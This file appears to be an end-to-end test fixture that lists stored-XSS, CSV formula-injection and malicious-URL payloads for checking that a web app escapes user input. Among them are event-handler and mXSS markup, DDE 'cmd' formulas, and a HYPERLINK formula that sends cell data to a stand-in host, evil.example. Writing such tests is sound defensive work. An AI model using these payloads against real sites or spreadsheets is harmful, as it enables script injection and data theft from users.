// Issue 12, "Stored XSS": what an attacker types into every field they control (e2e/stored-xss.spec.ts).
//
// Each markup payload, if a page ever ran it, would set `window.__xss` and open an alert: the journey sees
// either. Our pages' Content-Security-Policy would block most of them first; the browser then reports a
// violation, which the journey counts as a failure too. A payload rendered as text shows its characters, as
// typed: the journey checks that as well, so it cannot pass because nothing was shown.

/** The script every payload tries to run: sets the flag, then opens a dialog. */
export const RUN = 'alert(window.__xss=1)';

export type Payload = { name: string; text: string };

/** Markup and script payloads, in the classic forms. Every one fits a name field (PROFILE_NAME_MAX, 80). */
export const XSS_PAYLOADS: readonly Payload[] = [
  { name: 'script element', text: `<script>${RUN}</script>` },
  { name: 'img onerror', text: `<img src=x onerror=${RUN}>` },
  { name: 'svg onload', text: `<svg/onload=${RUN}>` },
  { name: 'double-quote attribute breakout', text: `"><script>${RUN}</script>` },
  { name: 'single-quote attribute breakout', text: `'><img src=x onerror=${RUN}>` },
  { name: 'textarea breakout', text: `</textarea><img src=x onerror=${RUN}>` },
  { name: 'title breakout (mail subject)', text: `</title><script>${RUN}</script>` },
  { name: 'javascript: URL', text: `javascript:${RUN}` },
  { name: 'markdown link', text: `[click me](javascript:${RUN})` },
  { name: 'anchor with javascript: href', text: `<a href="javascript:${RUN}">click me</a>` },
  { name: 'template injection', text: `{{constructor.constructor('${RUN}')()}}` },
  { name: 'template literal', text: `\${${RUN}}` },
  { name: 'iframe srcdoc', text: `<iframe srcdoc="<script>parent.${RUN}</script>">` },
  { name: 'mXSS math/style', text: `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>` },
  { name: 'mXSS noscript', text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { name: 'details ontoggle', text: `<details open ontoggle=${RUN}>` },
  { name: 'autofocus onfocus', text: `<input autofocus onfocus=${RUN}>` },
  { name: 'svg animate onbegin', text: `<svg><animate onbegin=${RUN} attributeName=x dur=1s>` },
  { name: 'entity-encoded handler', text: `<img src=x onerror=&#97;lert(window.__xss=1)>` },
  { name: 'pre-escaped markup (double decoding)', text: `&lt;img src=x onerror=${RUN}&gt;` },
  { name: 'percent-encoded script', text: `%3Cscript%3E${RUN}%3C/script%3E` },
  { name: 'base href hijack', text: `<base href="https://evil.example/">` },
  { name: 'meta refresh', text: `<meta http-equiv=refresh content="0;url=javascript:${RUN}">` },
  { name: 'remote stylesheet', text: `<style>@import'https://evil.example/x.css'</style>` },
  // U+202E RIGHT-TO-LEFT OVERRIDE: shown reversed, it hides what follows; still only text.
  { name: 'RTL override', text: `\u202E<img src=x onerror=${RUN}>` },
];

/**
 * Formula payloads for the CSV export (OWASP, CSV Injection): each starts a cell with = + - @, or hides one
 * behind another separator. Also saved into the pages' fields: they must show there as typed.
 */
export const CSV_PAYLOADS: readonly Payload[] = [
  { name: 'HYPERLINK exfiltration', text: '=HYPERLINK("https://evil.example/?"&A2,"Click")' },
  { name: 'DDE cmd', text: "=cmd|' /C calc'!A0" },
  { name: 'at-sign formula', text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: 'plus formula', text: "+1+cmd|' /C calc'!A0" },
  { name: 'minus formula', text: "-2+3+cmd|' /C calc'!A0" },
  // No double quote in it: that alone would have the cell quoted.
  { name: 'semicolon separator', text: "Springfield;=1+2;=cmd|' /C calc'!A0" },
];

export const ALL_PAYLOADS: readonly Payload[] = [...XSS_PAYLOADS, ...CSV_PAYLOADS];

/**
 * Web addresses with markup in them, for the fields that take a link (profile web sites, a state's source).
 * The server stores them only as http(s) addresses, and the pages put them in href attributes and text.
 */
export const URL_PAYLOADS: readonly string[] = [
  `https://example.org/"><svg/onload=${RUN}>`,
  `https://example.org/?q='><img/src=x/onerror=${RUN}>`,
  `example.org/</a><script>${RUN}</script>`,
];

/** Addresses a link field must refuse (400): scripts, data, and the same hidden behind case, space or controls. */
export const REFUSED_URLS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `\u0001javascript:${RUN}`,
  `vbscript:msgbox(1)`,
];

/**
 * Packs payloads into `fields`, each field at most its own length, one payload per field, going round the
 * list from `start` so that several members together hold every payload in some short field.
 */
export function spread(payloads: readonly Payload[], fields: Record<string, number>, start: number): Record<string, string> {
  const out: Record<string, string> = {};
  let i = start;
  for (const [field, max] of Object.entries(fields)) {
    for (let tries = 0; tries < payloads.length; tries++, i++) {
      const p = payloads[i % payloads.length]!;
      if (p.text.length <= max) {
        out[field] = p.text;
        i++;
        break;
      }
    }
  }
  return out;
}
